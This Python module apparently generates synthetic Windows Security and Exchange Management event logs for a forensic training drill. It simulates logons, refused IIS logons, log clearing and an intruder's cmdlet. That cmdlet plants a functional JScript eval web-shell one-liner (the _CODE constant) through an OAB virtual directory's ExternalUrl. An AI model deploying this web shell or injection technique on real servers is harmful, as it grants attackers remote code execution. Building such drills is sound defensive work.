"""Windows event logs as `wevtutil` exports them to XML: logons, cmdlets, and a log that was cleared."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from dwell.drill.deeds import Cmdlet, Deeds
from dwell.drill.people import DOMAIN, HOSTS, World, pick

__all__ = ["CLEARED", "write_event_logs"]

CLEARED = timedelta(days=9, hours=4)
"""How long before the end the second server's security log was cleared."""
_SECURITY = "Microsoft-Windows-Security-Auditing"
_CODE = 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>'


def _event(provider: str, channel: str, host: str, number: int, event: int, at: datetime, body: str) -> str:
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        f"<Provider Name={quoteattr(provider)}/><EventID>{event}</EventID><Level>0</Level><Task>0</Task>"
        f"<Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='{at:%Y-%m-%dT%H:%M:%S}.0000000Z'/>"
        f"<EventRecordID>{number}</EventRecordID><Channel>{escape(channel)}</Channel>"
        f"<Computer>{host}.{DOMAIN}</Computer><Security/></System>{body}</Event>\r\n"
    )


def _data(**values: str) -> str:
    inner = "".join(f"<Data Name='{name}'>{escape(text)}</Data>" for name, text in values.items())
    return f"<EventData>{inner}</EventData>"


def _cleared(host: str, number: int, at: datetime, who: str) -> str:
    body = (
        "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>"
        f"<SubjectUserName>{who}</SubjectUserName><SubjectDomainName>MINISTRY</SubjectDomainName>"
        "</LogFileCleared></UserData>"
    )
    return _event("Microsoft-Windows-Eventlog", "Security", host, number, 1102, at, body)


def _security(world: World, host: str, first: date, last: date, deeds: Deeds) -> str:
    rng = pick(world.plan.seed, "security", host)
    out: list[str] = []
    number = 810_000 if host == "EX01" else 640_000
    end = datetime(last.year, last.month, last.day, tzinfo=UTC)
    cleared = end - CLEARED if host == "EX02" else None
    at = datetime(first.year, first.month, first.day, 0, 4, tzinfo=UTC)
    refused = sorted(one[1:] for one in deeds.refused if one[0] == host and one[1] >= at)
    wiped = deeds.cleared.get(host)
    while at < end:
        while refused and refused[0][0] <= at:
            number += 1
            out.append(_refused(host, number, *refused.pop(0)))
        if wiped is not None and at >= wiped:
            number += 1
            out, wiped = [_cleared(host, number, wiped, "Administrator")], None
        number += 1
        if cleared is not None and at >= cleared:
            number = 640_000 + 88_000
            out = [_cleared(host, number, at, "adm-tier1")]
            cleared = None
        person = rng.choice(world.people)
        failed = rng.random() < 0.03
        body = _data(
            SubjectUserName=f"{host}$",
            TargetUserName=person.sam,
            TargetDomainName="MINISTRY",
            TargetUserSid=person.sid,
            LogonType="3" if rng.random() < 0.8 else "8",
            IpAddress=person.desk,
            WorkstationName=f"PC{person.sid[-4:]}",
            LogonProcessName="Kerberos",
        )
        out.append(_event(_SECURITY, "Security", host, number, 4625 if failed else 4624, at, body))
        at += timedelta(minutes=rng.randrange(6, 40))
    return "".join(out)


def _refused(host: str, number: int, at: datetime, sam: str, client: str) -> str:
    """Give a logon that IIS tried for a client, with a name and a password in clear, and that was refused."""
    body = _data(
        SubjectUserName=f"{host}$", TargetUserName=sam, TargetDomainName="MINISTRY", Status="0xc000006d",
        SubStatus="0xc000006a", LogonType="8", IpAddress=client, WorkstationName=host, LogonProcessName="Advapi",
        ProcessName="C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    )  # fmt: skip
    return _event(_SECURITY, "Security", host, number, 4625, at, body)


def _cmdlet(
    host: str, number: int, at: datetime, cmdlet: str, parameters: str, caller: str, program: str = "ECP"
) -> str:
    values = [cmdlet, parameters, caller, "S-1-5-21-1004336348-1177238915-682003330-500", "", program, "4711 w3wp", ""]
    inner = "".join(f"<Data>{escape(one)}</Data>" for one in values)
    body = f"<EventData>{inner}</EventData>"
    return _event("MSExchange CmdletLogs", "MSExchange Management", host, number, 1, at, body)


def _management(world: World, host: str, written: Sequence[tuple[str, date, int]], ran: Sequence[Cmdlet]) -> str:
    rng = pick(world.plan.seed, "cmdlets", host)
    events: list[tuple[datetime, str, str, str, str]] = [
        (one.at_utc, one.name, one.parameters, one.canonical, one.program) for one in ran if one.host == host
    ]
    at = world.plan.from_utc + timedelta(days=1, hours=9)
    while at < world.plan.to_utc:
        person = rng.choice(world.people)
        cmdlet, parameters = rng.choice(
            [
                ("Set-Mailbox", f'-Identity "{person.smtp}" -ProhibitSendQuota "10GB"'),
                ("Enable-Mailbox", f'-Identity "{person.sam}"'),
                ("Set-CASMailbox", f'-Identity "{person.smtp}" -ActiveSyncEnabled "True"'),
                ("Set-DistributionGroup", '-Identity "all-staff"'),
            ]
        )
        events.append((at, cmdlet, parameters, f"{DOMAIN}/Admins/adm-mail", "ECP"))
        at += timedelta(days=rng.randrange(3, 12), minutes=rng.randrange(300))
    for where, day, second in written:
        if where == host:
            start = datetime(day.year, day.month, day.day, tzinfo=UTC) + timedelta(seconds=second)
            parameters = f'-ExternalUrl "{_CODE}" -Identity "{host}\\OAB (Default Web Site)"'
            events.append((start, "Set-OabVirtualDirectory", parameters, f"{DOMAIN}/Admins/Administrator", "ECP"))
    return "".join(_cmdlet(host, 3_000 + place, *event) for place, event in enumerate(sorted(events)))


def write_event_logs(
    world: World,
    root: Path,
    first: date,
    last: date,
    written: Sequence[tuple[str, date, int]],
    deeds: Deeds | None = None,
) -> None:
    """Write the event logs of both servers.

    Args:
        world: the ministry.
        root: the evidence folder.
        first: first day of the security logs.
        last: the day after the last.
        written: where and when the loud intruder wrote his web shell: server, day, second.
        deeds: what else was done; None for nothing.
    """
    deeds = deeds or Deeds()
    for host in HOSTS:
        folder = root / host / "events"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "Security.xml").write_bytes(_security(world, host, first, last, deeds).encode())
        (folder / "MSExchange Management.xml").write_bytes(_management(world, host, written, deeds.cmdlets).encode())
